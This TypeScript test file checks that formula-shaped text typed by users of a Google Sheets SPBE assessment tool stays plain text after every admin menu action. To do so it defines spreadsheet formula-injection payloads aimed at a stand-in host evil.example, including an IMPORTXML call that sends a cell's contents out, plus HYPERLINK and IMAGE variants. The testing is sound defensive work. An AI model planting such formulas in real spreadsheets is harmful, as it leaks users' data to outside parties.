import { ALL_MENU_ITEMS } from '../../src/core/actions/menu/menu';
import { ADMIN } from '../support/demo-world';
import { panelWorld } from '../support/panel-world';
import { columnOf, rowOf } from '../support/workbook-helpers';

/**
 * R14: what a user typed is a value and never becomes a formula, wherever it is copied. PICs
 * type and save formula-shaped text by every route (the panel, the Sheets UI, a formula cell
 * pasted into their own tab), the coordinator runs every Diskominfo action, and afterwards no
 * cell of any tab holds a live formula made of that text — but the PIC's own pasted one.
 */
const PIC = 'bappeda.spbe@example.org';
const EVIL = 'evil.example';
const SAVED = `=IMPORTXML("https://${EVIL}/simpan?"&A1;"//a")`;
const SAVED_LINK = `+HYPERLINK("https://${EVIL}/tautan";"klik")`;
const TYPED = `=IMAGE("https://${EVIL}/ketik.png")`;
const PASTED = `=HYPERLINK("https://${EVIL}/tempel";"Perwali 12")`;
const NOTE = `@SUM(1;2) -${EVIL}`;

function afterEveryAction() {
  const w = panelWorld();
  const { env } = w;
  env.ui.answers.push('YES');
  w.menu('menuInstallRecorder');
  const tab = () => w.grid('Bappeda');
  const at = (code: string, header: string) =>
    [rowOf(tab(), code), columnOf(tab(), header)] as const;

  // The panel: a save writes the PIC's text into their own cells, and logs it.
  const opd = w.rpc('panelOpd', { opdKey: 'spbe:opd:BAPPEDA', code: 'I13' }, PIC);
  const saved = w.rpc(
    'panelSave',
    {
      opdKey: 'spbe:opd:BAPPEDA',
      code: 'I13',
      version: opd.entry?.version ?? '',
      level: 3,
      explanation: SAVED,
      evidence: `${SAVED_LINK}\nhttps://drive.google.com/file/d/1DemoI13BAPPEDA1xxxxxxxxxxxxxxxxxx/view`,
      evidenceKind: 'Dokumen',
    },
    PIC,
  );
  expect(saved.ok).toBe(true);
  // The Sheets UI: typed into a plain-text cell; the recorder logs it.
  w.edit(PIC, 'Bappeda', ...at('I32', 'Penjelasan'), TYPED);
  // A formula cell pasted from elsewhere brings its own format: a live formula in the PIC's
  // own cell, which they may do (what is copied from it must stay text).
  const [r33, c33] = at('I33', 'Penjelasan');
  env.spreadsheet.sheetNamed('Bappeda')?.formats.delete(`${r33}:${c33}`);
  w.edit(PIC, 'Bappeda', r33, c33, PASTED);
  w.edit(ADMIN, 'Bappeda', ...at('I32', 'Catatan verifikator'), NOTE);

  // Every Diskominfo action, each with its dialogs answered.
  const run: Record<string, () => void> = {
    menuSetup: () => w.menu('menuSetup'),
    menuCheck: () => w.menu('menuCheck'),
    menuRemind: () => {
      env.ui.answers.push('YES');
      w.menu('menuRemind');
    },
    menuToggleLock: () => {
      env.ui.answers.push('YES', 'YES');
      w.menu('menuToggleLock'); // locks, taking a snapshot
      w.menu('menuToggleLock'); // opens again
    },
    menuRecalculate: () => w.menu('menuRecalculate'),
    menuExport: () => w.menu('menuExport'),
    menuReport: () => w.menu('menuReport'),
    menuRestore: () => {
      w.edit(PIC, 'Bappeda', ...at('I32', 'Penjelasan'), 'diganti');
      env.ui.typed.push('1 BAPPEDA I32');
      env.ui.answers.push('YES');
      w.menu('menuRestore');
    },
    menuInstallRecorder: () => {
      env.ui.answers.push('YES');
      w.menu('menuInstallRecorder');
    },
    menuOpenLog: () => w.menu('menuOpenLog'),
    menuSelfTest: () => {
      env.ui.typed.push('');
      w.menu('menuSelfTest');
    },
  };
  const diskominfo = ALL_MENU_ITEMS.filter((i) => i.handler in run);
  for (const item of diskominfo) run[item.handler]?.();
  w.rpc('panelWritePlan', { target: 3 }, ADMIN);
  w.menu('menuCheck'); // an admin run moves the queued Log rows in
  return { w, diskominfo, pasted: [r33, c33] as const };
}

describe('R14: user text stays text wherever it is copied', () => {
  const { w, diskominfo, pasted } = afterEveryAction();
  const mentions = (text: string) => text.includes(EVIL);

  it('runs every Diskominfo menu action', () => {
    const admin = ALL_MENU_ITEMS.filter((i) => i.handler.startsWith('menu'));
    expect(diskominfo.map((i) => i.handler).sort()).toEqual(
      admin
        .map((i) => i.handler)
        .filter((h) => h !== 'menuOpenPanel' && h !== 'menuHelp')
        .sort(),
    );
  });

  it('leaves no live formula made of user text anywhere, but the one the PIC pasted in their own cell', () => {
    const live = w.liveFormulas().filter((f) => mentions(f.text));
    expect(live).toEqual([{ tab: 'Bappeda', row: pasted[0], col: pasted[1], text: PASTED }]);
  });

  it('did copy that text: into the Log, the snapshot, the export, as words', () => {
    const words = (tab: string) =>
      (w.env.spreadsheet.sheetNamed(tab)?.contents ?? []).flat().map(String).filter(mentions);
    // (The edit trigger reads what cells show: a pasted formula is logged by what it shows.)
    for (const text of [SAVED, TYPED, NOTE])
      expect([text, words('Log').some((v) => v.includes(text))]).toEqual([text, true]);
    expect(words('_Snapshot')).toEqual(expect.arrayContaining([PASTED, TYPED]));
    // Restored as it was: the PIC's typed words, as text.
    expect(w.cell('Bappeda', 'I32', 'Penjelasan')).toBe(TYPED);
    expect(words('Ekspor')).toEqual(expect.arrayContaining([SAVED]));
    // The panel's save kept the PIC's words as text in their own cell too.
    expect(w.cell('Bappeda', 'I13', 'Penjelasan')).toBe(SAVED);
  });
});
